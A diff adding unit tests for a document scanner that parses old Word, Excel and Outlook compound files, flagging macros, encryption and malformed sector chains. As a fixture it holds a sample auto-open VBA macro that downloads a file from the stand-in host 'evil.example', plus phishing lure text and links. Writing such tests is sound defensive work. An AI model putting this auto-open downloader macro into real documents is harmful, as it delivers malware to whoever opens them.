@@ -1,0 +1,99 @@
+import { describe, expect, test } from 'vitest';
+import { readFile } from '../../../src/parse/files/read-file.ts';
+import { ole, vbaStreams } from '../../helpers/office.ts';
+
+const look = (bytes: Uint8Array, name: string) => readFile({ bytes, name, declaredType: '', inline: false });
+const macro = 'Sub Workbook_Open()\r\n  URLDownloadToFile 0, "http://evil.example/a", "b", 0, 0\r\nEnd Sub';
+
+test('an old Word document: macros, words and links', async () => {
+  const words = Buffer.concat([
+    Buffer.alloc(64),
+    Buffer.from('Please confirm your account. HYPERLINK "https://evil.example/w" here', 'latin1'),
+    Buffer.alloc(64),
+    Buffer.from('请确认您的账户信息', 'utf16le'),
+  ]);
+  const content = await look(ole({ WordDocument: words, ...vbaStreams(macro, { folder: 'Macros/' }) }), 'a.doc');
+  expect(content).toMatchObject({ type: 'doc', gaps: [] });
+  expect(content.traits).toEqual(['macro', 'macro-auto-open', 'macro-runs-programs']);
+  expect(content.text).toContain('Please confirm your account.');
+  expect(content.text).toContain('请确认您的账户信息');
+  expect(content.links.map((link) => link.url)).toContain('https://evil.example/w');
+});
+
+test('large streams, kept in whole sectors, are read too', async () => {
+  const words = Buffer.from('Please pay this invoice today. '.repeat(500), 'latin1');
+  const content = await look(ole({ WordDocument: words }), 'a.doc');
+  expect(content.text?.split('\n').join('')).toContain('Please pay this invoice today. Please pay');
+});
+
+describe('an old Excel table', () => {
+  const record = (id: number, data: number[]) => Buffer.from([id, 0, data.length, 0, ...data]);
+  const end = record(0x0a, []);
+  const sheet = (kind: number) => record(0x85, [0, 0, 0, 0, 0, kind, 1, 0, 65]);
+
+  test('a macro sheet of Excel 4.0', async () => {
+    expect((await look(ole({ Workbook: Buffer.concat([sheet(1), end]) }), 'a.xls')).traits).toEqual(['excel4-macro']);
+  });
+
+  test('an ordinary sheet', async () => {
+    expect(await look(ole({ Workbook: Buffer.concat([sheet(0), end]) }), 'a.xls')).toMatchObject({
+      type: 'xls',
+      traits: [],
+      gaps: [],
+    });
+  });
+
+  test('an encrypted one', async () => {
+    const content = await look(ole({ Workbook: Buffer.concat([record(0x2f, [0, 0]), end]) }), 'a.xls');
+    expect(content).toMatchObject({ traits: ['encrypted'], gaps: [{ why: 'encrypted', blinding: true }] });
+  });
+});
+
+test('a modern document behind a password', async () => {
+  const content = await look(ole({ EncryptedPackage: Buffer.from('x'), EncryptionInfo: Buffer.from('y') }), 'a.xlsx');
+  expect(content).toMatchObject({ type: 'xlsx', traits: ['encrypted'], gaps: [{ why: 'encrypted', blinding: true }] });
+});
+
+test('an Outlook message is known, and that nobody reads it yet is said', async () => {
+  const content = await look(ole({ '__properties_version1.0': Buffer.from('x') }), 'a.msg');
+  expect(content).toMatchObject({ type: 'msg', gaps: [{ why: 'unsupported', blinding: true }] });
+});
+
+describe('knotted compound files', () => {
+  const whole = ole({ WordDocument: Buffer.alloc(20_000, 'a'), ...vbaStreams(macro, { folder: 'Macros/' }) });
+  /** Where the table of sectors lies: its first sector's number stands at 76. */
+  const table = (whole.readUInt32LE(76) + 1) * 512;
+
+  test('a chain of sectors that loops', async () => {
+    for (let sector = 0; sector < 60; sector += 1) {
+      const bytes = Buffer.from(whole);
+      bytes.writeUInt32LE(sector, table + sector * 4);
+      expect((await look(bytes, 'a.doc')).type).toMatch(/^(doc|ole|)$/);
+    }
+  }, 5_000);
+
+  test('every chain leads to sector 0', async () => {
+    const bytes = Buffer.from(whole);
+    bytes.fill(0, table, table + 512);
+    const content = await look(bytes, 'a.doc');
+    expect(content.size).toBe(whole.length);
+  }, 2_000);
+
+  test('a directory whose entries point at each other', async () => {
+    const bytes = Buffer.from(whole);
+    const directory = (bytes.readUInt32LE(48) + 1) * 512;
+    for (let entry = 0; entry < 4; entry += 1) {
+      bytes.writeUInt32LE(0, directory + entry * 128 + 68);
+      bytes.writeUInt32LE(1, directory + entry * 128 + 72);
+      bytes.writeUInt32LE(2, directory + entry * 128 + 76);
+    }
+    expect((await look(bytes, 'a.doc')).size).toBe(whole.length);
+  }, 2_000);
+
+  test('sizes of four gigabytes', async () => {
+    const bytes = Buffer.from(whole);
+    const directory = (bytes.readUInt32LE(48) + 1) * 512;
+    for (let entry = 0; entry < 4; entry += 1) bytes.writeUInt32LE(0xfffffff0, directory + entry * 128 + 120);
+    expect((await look(bytes, 'a.doc')).gaps.length).toBeGreaterThan(0);
+  }, 2_000);
+});
